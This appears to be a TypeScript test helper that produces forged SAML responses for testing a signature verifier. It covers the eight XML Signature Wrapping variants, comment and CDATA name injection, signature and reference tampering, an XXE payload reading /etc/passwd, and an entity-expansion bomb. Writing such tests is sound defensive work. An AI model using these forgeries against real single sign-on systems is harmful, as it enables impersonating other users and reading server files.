// Signed responses as attackers change them: the eight wrappings of "On Breaking SAML" (Somorovsky et al., 2012) and others.
import type { MadeResponse } from './saml-provider.ts'

/** What a change has to work with: a signed response, and the name that the attacker wants to have. */
export interface Forgery {
  made: MadeResponse
  victim: string
}

/** The assertion without a signature, of the victim, under another id. */
const evil = ({ made, victim }: Forgery): string =>
  made.assertion.replace(made.signature, '').replace(made.assertion_id, '_evil').replaceAll('attacker', victim)
const bare = ({ made }: Forgery): string => made.assertion.replace(made.signature, '')
const put = ({ made }: Forgery, assertions: string): string => made.xml.replace(made.assertion, assertions)
const within = (element: string, more: string, before: string): string => element.replace(before, `${more}${before}`)
const object = (inner: string): string => `<ds:Object>${inner}</ds:Object>`

/** A response of the victim that has no signature, under another id. */
const evilResponse = ({ made, victim }: Forgery): string =>
  made.xml
    .replace(made.signature, '')
    .replaceAll(made.response_id, '_evil')
    .replace(made.assertion_id, '_evilAssertion')
    .replaceAll('attacker', victim)
const afterIssuer = (xml: string, more: string): string => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`)
const signatureWith = ({ made }: Forgery, inner: string): string =>
  made.signature.replace('</ds:Signature>', `${object(inner)}</ds:Signature>`)
const bareResponse = ({ made }: Forgery): string => made.xml.replace(made.signature, '')

/** Wrappings of a response whose whole is signed. */
export const responseWrappings: Record<string, (forgery: Forgery) => string> = {
  'XSW1: the signed response within the signature of another': (f) =>
    afterIssuer(evilResponse(f), signatureWith(f, bareResponse(f))),
  'XSW2: the signed response before its signature, within another': (f) =>
    afterIssuer(evilResponse(f), bareResponse(f) + f.made.signature),
}

/** Wrappings of a response whose assertion is signed. */
export const assertionWrappings: Record<string, (forgery: Forgery) => string> = {
  'XSW3: another assertion before the signed one': (f) => put(f, evil(f) + f.made.assertion),
  'XSW4: the signed assertion within another': (f) => put(f, within(evil(f), f.made.assertion, '</saml:Assertion>')),
  'XSW5: the signature moved to another assertion, the signed one behind it': (f) =>
    put(f, afterIssuer(evil(f), f.made.signature) + bare(f)),
  'XSW6: the signed assertion within the signature, within another': (f) =>
    put(f, afterIssuer(evil(f), signatureWith(f, bare(f)).replace('<ds:Object>', '').replace('</ds:Object>', ''))),
  'XSW7: another assertion within Extensions': (f) =>
    put(f, `<samlp:Extensions>${evil(f)}</samlp:Extensions>${f.made.assertion}`),
  'XSW8: the signed assertion within an Object of the signature': (f) =>
    put(f, f.made.assertion.replace(f.made.signature, '') && afterIssuer(evil(f), signatureWith(f, bare(f)))),
}

/** Other changes of a response whose assertion is signed. */
export const otherForgeries: Record<string, (forgery: Forgery) => string> = {
  'another assertion behind the signed one': (f) => put(f, f.made.assertion + evil(f)),
  'the signed assertion twice': (f) => put(f, f.made.assertion + f.made.assertion),
  'another assertion under the same id': (f) =>
    put(f, f.made.assertion + evil(f).replace('_evil', f.made.assertion_id)),
  'two signatures': (f) => f.made.xml.replace(f.made.signature, f.made.signature + f.made.signature),
  'a second SignedInfo': (f) => {
    const info = /<ds:SignedInfo>.*<\/ds:SignedInfo>/.exec(f.made.signature)?.[0] ?? ''
    return f.made.xml.replace(info, info + info)
  },
  'a second Reference': (f) => {
    const reference = /<ds:Reference .*<\/ds:Reference>/.exec(f.made.signature)?.[0] ?? ''
    return f.made.xml.replace(reference, reference + reference)
  },
  'a comment in the digest': (f) => f.made.xml.replace('<ds:DigestValue>', '<ds:DigestValue><!---->'),
  'a comment with another digest': (f) =>
    f.made.xml.replace('<ds:DigestValue>', '<ds:DigestValue>AAAA<!---->').replace('attacker', f.victim),
  'an instruction in the name': (f) => f.made.xml.replace('attacker@', `${f.victim}<?x y?>@`),
  'a name that was changed': (f) => f.made.xml.replace('attacker', f.victim),
  'a name whose beginning was put into CDATA': (f) => f.made.xml.replace('attacker', `<![CDATA[${f.victim}]]>`),
  'no signature value': (f) => f.made.xml.replace(/<ds:SignatureValue>[^<]*/, '<ds:SignatureValue>'),
  'a reference to nothing in particular': (f) => f.made.xml.replace(/URI="#[^"]*"/, 'URI=""'),
  'a reference to another id': (f) => f.made.xml.replace(/URI="#[^"]*"/, 'URI="#_other"'),
  'an XPath transform': (f) =>
    f.made.xml.replace(
      '</ds:Transforms>',
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*)</ds:XPath></ds:Transform></ds:Transforms>',
    ),
  'an XSLT transform': (f) =>
    f.made.xml.replace(
      /<ds:Transform Algorithm="[^"]*exc-c14n#"><\/ds:Transform>/,
      '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"></ds:Transform>',
    ),
  'a DOCTYPE': (f) => `<!DOCTYPE samlp:Response>${f.made.xml}`,
  'an entity': (f) => `<!DOCTYPE x [<!ENTITY name "${f.victim}">]>${f.made.xml.replace('attacker@', '&name;@')}`,
  'an external entity': (f) =>
    `<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>${f.made.xml.replace('attacker@', '&file;@')}`,
  'entities that grow': (f) =>
    `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>${f.made.xml.replace('attacker@', '&c;@')}`,
  'a signature of the assertion that stands in the response': (f) => afterIssuer(put(f, bare(f)), f.made.signature),
  'no signature': (f) => f.made.xml.replace(f.made.signature, ''),
}
